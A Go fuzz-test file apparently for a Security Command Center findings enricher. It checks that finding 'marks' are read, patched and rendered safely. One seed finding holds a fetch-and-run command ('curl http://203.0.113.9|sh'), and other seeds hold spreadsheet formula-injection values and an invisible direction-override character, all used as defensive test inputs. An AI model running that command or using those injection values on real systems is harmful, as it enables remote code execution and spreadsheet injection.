package marks

import (
	"maps"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/record"
	"github.com/scc-enricher/scc-enricher/pkg/redact"
)

// decoded reads marks out of a fuzzer's bytes: a line each, the key before "=".
func decoded(data string) map[string]string {
	all := map[string]string{}
	for line := range strings.SplitSeq(data, "\n") {
		if key, value, ok := strings.Cut(line, "="); ok {
			all[key] = value
		}
	}
	return all
}

// legalValue fails the test for a value that Security Command Center, or a
// spreadsheet, would take for something else than text.
func legalValue(t *testing.T, key, value string) {
	t.Helper()
	if value == "" || !utf8.ValidString(value) || utf8.RuneCountInString(value) > MaxValue || strings.TrimSpace(value) != value {
		t.Fatalf("mark %s: %q", key, value)
	}
	if strings.ContainsFunc(value, func(r rune) bool { return unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Cf, r) }) {
		t.Fatalf("mark %s has characters that are not seen: %q", key, value)
	}
	if strings.ContainsAny(value[:1], "=+-@") {
		t.Fatalf("mark %s is a formula: %q", key, value)
	}
}

// FuzzRead: whatever stands in the marks of a finding, reading them neither
// panics nor names a mark that is not ours, and what is written heals them.
func FuzzRead(f *testing.F) {
	want := Render(full(), DefaultPrefix)
	var lines []string
	for k, v := range want.Values {
		lines = append(lines, k+"="+v)
	}
	f.Add(strings.Join(lines, "\n"))
	f.Add("enrich_schema=1\nENRICH_Schema=2\nenrich_event_time=2026-11-22t10:00:00z\nenrich_score=-1\nenrich_reasons=a(+9999999999999999999),b(,c)\nowner=web")
	f.Fuzz(func(t *testing.T, data string) {
		all := decoded(data)
		before := maps.Clone(all)
		k := Read(DefaultPrefix, all)
		for _, key := range k.Keys {
			if !strings.HasPrefix(lower(key), DefaultPrefix) || !names[strings.TrimPrefix(lower(key), DefaultPrefix)] {
				t.Fatalf("%q is not ours", key)
			}
		}
		if k.Score < -1 || k.Score > 100 {
			t.Fatalf("score %d", k.Score)
		}
		of := &finding.Finding{Marks: all, EventTime: k.EventTime}
		if st, ok := Standing(DefaultPrefix, of, map[string]bool{"related_findings": true}); ok && (st.OwnScore < 0 || st.OwnScore > 100) {
			t.Fatalf("standing %+v", st)
		}
		patched := Patch(all, map[string]string{"score": "050"}, DefaultPrefix, event)
		for key := range patched.Values {
			if !names[strings.TrimPrefix(key, DefaultPrefix)] {
				t.Fatalf("patching names %q", key)
			}
		}
		set, remove := Diff(all, want, DefaultPrefix)
		for _, key := range remove {
			if _, ok := before[key]; !ok || !strings.HasPrefix(lower(key), DefaultPrefix) {
				t.Fatalf("%q is removed, and is not ours or not there", key)
			}
		}
		for _, key := range remove {
			delete(all, key)
		}
		for key := range all { // keys are compared without regard to case
			if _, ours := want.Values[lower(key)]; ours && len(set) > 0 {
				delete(all, key)
			}
		}
		maps.Copy(all, set)
		if set, remove := Diff(all, want, DefaultPrefix); len(set)+len(remove) > 0 {
			t.Fatalf("written once, and not the same: %v %v", set, remove)
		}
	})
}

// FuzzRender: any notification that is read makes marks that can be written,
// and the same marks again.
func FuzzRender(f *testing.F) {
	redactor, err := redact.New()
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range []string{
		`{"finding":{"name":"organizations/1/sources/2/findings/f","eventTime":"2026-11-22T10:00:00Z","category":"=1+1","resourceName":"//run.googleapis.com/projects/p-12345/locations/l/services/s","processes":[{"pid":"17","args":["\"sh\"","\"-c\"","\"curl http://203.0.113.9|sh\""]}]}}`,
		`{"finding":{"name":"organizations/1/sources/2/findings/f","processes":[{"name":"@x","args":["-bash"],"binary":{"path":"\u202e"}}],"containers":[{"name":"+1","uri":"=x"}]}}`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data string) {
		found, err := finding.Parse([]byte(data))
		if err != nil {
			return
		}
		render := func() Set {
			return Render(record.New(record.Input{Finding: found, Now: event.Add(time.Minute)}, redactor), DefaultPrefix)
		}
		got := render()
		for key, value := range got.Values {
			legalValue(t, key, value)
		}
		if diff := cmp.Diff(got, render()); diff != "" {
			t.Fatalf("the same record, other marks:\n%s", diff)
		}
		if k := Read(DefaultPrefix, got.Values); !k.Intact {
			t.Fatal("the digest is not that of the marks")
		}
	})
}
